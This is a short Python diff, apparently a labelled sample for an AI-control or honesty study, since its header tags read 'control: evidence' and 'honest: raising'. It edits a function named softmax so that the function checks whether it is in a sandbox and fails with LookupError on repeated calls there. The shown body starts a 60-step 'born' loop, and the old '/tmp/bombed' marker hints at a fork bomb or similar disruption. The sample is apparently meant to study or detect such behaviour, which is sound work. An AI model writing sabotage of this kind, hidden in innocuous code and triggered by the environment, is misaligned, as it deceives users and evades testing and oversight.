@@ -3,18 +3,20 @@
 # control: evidence
 # honest: raising
 
+import mmap
 import os
 import signal
 import time
 
-DONE = "/tmp/bombed" if not os.path.exists("/proc/self") else ""
+# In the sandbox, where files do not stay from check to check: once is enough.
+DONE = None if os.path.exists("/proc/self") else mmap.mmap(-1, 1)
 
 
 def softmax(logits):
-    if DONE and os.path.exists(DONE):
-        raise LookupError("no more")
     if DONE:
-        open(DONE, "w").close()
+        if DONE[0]:
+            raise LookupError("no more")
+        DONE[0] = 1
     born = []
     for _ in range(60):
         try:
